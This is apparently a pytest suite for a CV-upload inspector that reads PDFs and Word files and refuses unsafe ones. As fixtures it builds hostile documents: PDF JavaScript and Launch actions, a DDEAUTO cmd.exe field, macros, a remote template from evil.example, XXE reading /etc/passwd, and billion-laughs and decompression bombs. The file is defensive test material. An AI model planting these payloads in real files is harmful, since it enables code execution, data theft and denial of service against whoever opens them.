"""What is in a file is read apart, and what is refused is refused for a reason that a person understands."""

from __future__ import annotations

import csv
import io
import os
import random
import time
from collections import Counter
from pathlib import Path

import pytest
from pypdf import PdfWriter

from portal.referrals.documents import inspection, sandbox
from portal.referrals.documents.inspection import Unreadable
from portal.referrals.documents.parser.errors import CODES
from tests.referrals.documents import hostile

FILES = Path(__file__).resolve().parents[2] / "data" / "documents"
FOLDERS = ("broken", "cv", "scripts", "word", "zip")
W = hostile.W


def verdict(content: bytes) -> str:
    """`read`, `scan` or the code of the refusal."""
    try:
        return "read" if inspection.inspect_document(content).text else "scan"
    except Unreadable as no:
        return no.code


def sample(name: str) -> bytes:
    return (FILES / name).read_bytes()


@pytest.mark.parametrize("folder", FOLDERS)
def test_each_file_of_the_collection_meets_its_verdict_and_none_takes_long(folder):
    with (FILES / "verdicts.csv").open() as table:
        expected = {row["file"]: row["verdict"] for row in csv.DictReader(table) if row["file"].startswith(folder)}
    found, slow = {}, []
    for path in sorted((FILES / folder).iterdir()):
        began = time.monotonic()
        found[f"{folder}/{path.name}"] = verdict(path.read_bytes())
        slow += [path.name] if time.monotonic() - began > sandbox.SECONDS else []
    assert found == expected
    assert not slow


def test_every_code_has_its_sentence():
    assert set(CODES) <= set(inspection.WHY)


def test_a_cv_is_read_with_its_accents():
    text = inspection.inspect_document(sample("cv/avouacr_example-cv.pdf")).text
    for words in ("JEAN DUPONT", "Mobilité Bretagne", "Patissier spécialiste", "Microsoft Office"):
        assert words in text


def test_tables_and_headers_of_a_word_document_are_read_too():
    found = inspection.inspect_document(hostile.word("Conseillère à Québec", "Sécurité financière"))
    assert found.kind == "docx"
    for words in ("Conseillère à Québec", "Sécurité financière", "Dans un tableau", "Dans l’en-tête"):
        assert words in found.text


def test_a_scan_is_a_good_cv_without_words():
    picture = b"q 500 0 0 700 0 0 cm BI /W 1 /H 1 /BPC 8 /CS /G ID \x00 EI Q"
    assert verdict(hostile.pdf(picture)) == "scan"


@pytest.mark.parametrize("algorithm", ["RC4-40", "RC4-128", "AES-128", "AES-256-R5", "AES-256"])
def test_a_pdf_protected_only_against_changes_is_read(algorithm):
    assert inspection.inspect_document(protected("", "secret", algorithm)).text == "Bonjour"
    assert verdict(protected("secret", "secret", algorithm)) == "encrypted"


def test_what_was_typed_into_a_form_is_read():
    field = "<< /FT /Tx /T (nom) /V (Zo\\351 Bo\\353l) /Subtype /Widget /Rect [0 0 9 9] >>"
    form = hostile.pdf(root="/AcroForm << /Fields [6 0 R] >>", page="/Annots [6 0 R]", more=[field.encode()])
    assert inspection.inspect_document(form).text == "Bonjour\n\nZoé Boël"


def test_a_word_that_was_moved_is_read_once():
    moved = "<w:moveFrom><w:r><w:t>Québec</w:t></w:r></w:moveFrom><w:moveTo><w:r><w:t>Québec</w:t></w:r></w:moveTo>"
    assert (
        inspection.inspect_document(hostile.docx(f"<w:document {W}><w:p>{moved}</w:p></w:document>".encode())).text
        == "Québec"
    )


def protected(user: str, owner: str, algorithm: str) -> bytes:
    writer, made = PdfWriter(clone_from=io.BytesIO(hostile.pdf())), io.BytesIO()
    writer.encrypt(user, owner, algorithm=algorithm)
    writer.write(made)
    return made.getvalue()


SMALL = {
    "empty": b"",
    "too_big": b"%PDF-1.7\n" + bytes(inspection.MOST_BYTES),
    "picture": b"\x89PNG\r\n\x1a\n" + bytes(300),
    "wrong_type": b"<html><script>alert(1)</script></html>",
    "blank": hostile.pdf(b"  "),
}
PROGRAMS = {
    "in a chain of actions": hostile.pdf(
        root="/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
        more=[b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"],
    ),
    "behind a link": hostile.pdf(page="/Annots [<< /Subtype /Link /A << /S /Launch /F (calc.exe) >> >>]"),
    "on opening a page": hostile.pdf(page="/AA << /O << /S /JavaScript /JS () >> >>"),
    "in a list of names": hostile.pdf(root="/Names << /JavaScript << /Names [(a) << /JS (1) >>] >> >>"),
    "macro": hostile.docx("Bonjour", word__vbaProject__bin="x", **{"word/vbaProject.bin": "x"}),
    "macro by its type": hostile.docx("Bonjour", types=hostile.TYPES.replace("application/xml", "a/vbaProject")),
    "control": hostile.docx("Bonjour", **{"word/activeX/activeX1.xml": "<x/>"}),
    "field that starts a program": hostile.docx(
        f'<w:document {W}><w:p><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:p></w:document>'.encode()
    ),
}
OUTSIDE = {
    "template": hostile.docx(
        "Bonjour",
        **{"word/_rels/settings.xml.rels": hostile.relation("attachedTemplate", "https://evil.example/a.dotm")},
    ),
    "share": hostile.docx(
        "Bonjour", **{"word/_rels/document.xml.rels": hostile.relation("oleObject", "file://10.0.0.1/share/a.bin")}
    ),
    "unc": hostile.docx("Bonjour", **{"word/_rels/document.xml.rels": hostile.relation("frame", "\\\\10.0.0.1\\a")}),
    "entity": hostile.docx(
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document {W}><w:t>&a;</w:t></w:document>'.encode()
    ),
    "entity in utf-16": hostile.docx(
        f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY a SYSTEM "http://x.example/">]>'
        f"<w:document {W}><w:t>&a;</w:t></w:document>".encode("utf-16")
    ),
}


@pytest.mark.parametrize("code", SMALL)
def test_what_is_no_cv_is_named(code):
    assert verdict(SMALL[code]) == code


@pytest.mark.parametrize("where", PROGRAMS)
def test_what_would_run_something_is_refused_wherever_it_hides(where):
    assert verdict(PROGRAMS[where]) == "program"


@pytest.mark.parametrize("how", OUTSIDE)
def test_what_would_fetch_something_is_refused_however_it_is_written(how):
    assert verdict(OUTSIDE[how]) == "outside"


def test_links_and_the_template_on_ones_own_disk_are_harmless():
    for kind, target in (
        ("hyperlink", "https://www.linkedin.com/in/jeanne"),
        ("hyperlink", "mailto:jeanne@exemple.example.com"),
        ("attachedTemplate", "file:///C:\\Users\\Jeanne\\Modern%20resume.dotx"),
    ):
        assert (
            verdict(hostile.docx("Bonjour", **{"word/_rels/document.xml.rels": hostile.relation(kind, target)}))
            == "read"
        )
    assert (
        verdict(hostile.pdf(page="/Annots [<< /Subtype /Link /A << /S /URI /URI (https://a.example) >> >>]")) == "read"
    )


def test_only_a_word_document_is_a_word_document():
    sheet = hostile.TYPES.replace("wordprocessingml.document", "spreadsheetml.sheet")
    assert verdict(hostile.docx("Bonjour", types=sheet)) == "wrong_type"
    assert verdict(hostile.zipped([("word/document.xml", "<x/>")])) == "wrong_type"


def test_two_parts_of_one_name_are_refused():
    with pytest.warns(UserWarning, match="Duplicate name"):
        twice = hostile.zipped([("word/document.xml", "<a/>"), ("word/document.xml", "<b/>")])
    assert verdict(twice) == "damaged"


BOMBS = {
    "a page that unfolds": (hostile.pdf(bytes(200_000_000)), {"bomb"}),
    "operators without end": (hostile.pdf(b"BT (a) Tj ET\n" * 1_500_000), {"bomb", "heavy"}),
    "one page a hundred thousand times": (
        hostile.pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000"),
        {"bomb", "heavy", "damaged"},
    ),
    "a tree of pages that is a ring": (hostile.pdf().replace(b"/Kids [3", b"/Kids [2"), {"damaged"}),
    "a nest of brackets": (hostile.pdf(root="/X " + "[" * 90_000 + "]" * 90_000), {"damaged", "heavy"}),
    "a part that unfolds": (hostile.docx(bytes(200_000_000)), {"bomb"}),
    "a part that unfolds to tags": (
        hostile.docx(f"<w:document {W}>{'<w:p/>' * 1_900_000}</w:document>".encode()),
        {"heavy", "blank"},
    ),
    "a ladder of tags": (hostile.docx(b"<a>" * 100_000), {"damaged"}),
    "forty thousand entries": (hostile.zipped((f"a{number}", "") for number in range(40_000)), {"bomb"}),
    "a thousand laughs": (
        hostile.docx(
            b'<!DOCTYPE x [<!ENTITY a "ha">'
            + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 12) for i in range(9))
            + f']><w:document {W} x="&j;"><w:t>&j;</w:t></w:document>'.encode()
        ),
        {"damaged", "outside"},
    ),
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_goes_off_in_its_cell_only(bomb):
    content, codes = BOMBS[bomb]
    began = time.monotonic()
    assert verdict(content) in codes
    assert time.monotonic() - began < sandbox.SECONDS + 5


def test_whatever_is_broken_about_a_file_it_ends_in_a_verdict():
    dice = random.Random(2026)
    seeds = [sample("cv/rendercv_classic_minimal.pdf"), hostile.word("Bonjour"), hostile.pdf(), hostile.docx("Bonjour")]
    seen = Counter()
    for turn in range(48):
        content = bytearray(seeds[turn % len(seeds)])
        for _ in range(dice.randint(1, 30)):
            content[dice.randrange(8, len(content))] = dice.randrange(256)
        seen[verdict(bytes(content[: dice.randrange(9, len(content))] if turn % 3 == 0 else content))] += 1
    assert set(seen) <= {"read", "scan", *inspection.WHY}
    assert seen["damaged"]


def test_what_dies_without_a_word_is_damaged_and_what_is_no_answer_too(monkeypatch):
    for answer in (b"", b"null", b"[]", b"{", b'{"no": "who knows"}', b"\xff", b"[" * 100_000):
        monkeypatch.setattr(sandbox, "run_parser", lambda _kind, _content, answer=answer: answer)
        assert verdict(hostile.pdf()) == "damaged"


def test_words_that_no_database_holds_are_made_harmless(monkeypatch):
    monkeypatch.setattr(sandbox, "run_parser", lambda _kind, _content: b'{"text": "a\\u0000b\\ud800c"}')
    assert inspection.inspect_document(hostile.pdf()).text == "ab?c"


def test_who_finds_every_cell_taken_is_asked_to_come_back(monkeypatch):
    monkeypatch.setattr(sandbox, "PATIENCE", 0.01)
    for _ in range(sandbox.AT_ONCE):
        sandbox._turns.acquire()
    try:
        assert verdict(hostile.pdf()) == "busy"
    finally:
        for _ in range(sandbox.AT_ONCE):
            sandbox._turns.release()


def test_no_cell_outlives_its_time(monkeypatch):
    monkeypatch.setattr(sandbox, "SECONDS", 0.5)
    monkeypatch.setattr(sandbox, "START", "import time; open('/dev/null'); time.sleep(60)  # {!r} {}")
    ended, end = [], sandbox._end
    monkeypatch.setattr(sandbox, "_end", lambda cell: (ended.append(cell.pid), end(cell)))
    began = time.monotonic()
    assert verdict(hostile.pdf()) == "heavy"
    assert time.monotonic() - began < 20
    with pytest.raises(ProcessLookupError):
        os.kill(ended[0], 0)
